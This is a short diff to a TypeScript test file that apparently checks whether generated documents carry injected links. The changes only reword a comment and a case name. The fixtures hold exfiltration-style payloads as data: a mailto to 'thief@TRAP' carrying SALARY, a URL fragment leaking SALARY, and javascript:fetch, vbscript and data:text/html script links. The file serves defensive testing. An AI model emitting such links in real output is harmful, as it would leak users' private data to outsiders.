@@ -6,7 +6,7 @@ export interface ObeyedCase {
   format?: 'docx' | 'pdf' | 'pptx' | 'xlsx';
   /** Patterns that no file may hold, beside those of every case. */
   never?: RegExp[];
-  /** What the reader of the document is told. */
+  /** What the reader of the document is reported. */
   told?: RegExp;
 }
 
@@ -48,7 +48,7 @@ export const IN_TEXTS: readonly ObeyedCase[] = [
     text: memo('[read more](https://known.example/page#SALARY)'),
     never: [/known\.example\/page#/],
   },
-  { name: 'a letter to somebody', text: memo('[write](mailto:thief@TRAP?subject=SALARY&body=SALARY)'), never: [/mailto:/] },
+  { name: 'a letter to a user', text: memo('[write](mailto:thief@TRAP?subject=SALARY&body=SALARY)'), never: [/mailto:/] },
   {
     name: 'a script behind a link',
     text: memo('[x](javascript:fetch(`URL`)) [y](vbscript:x) [z](data:text/html,<script>1</script>)'),
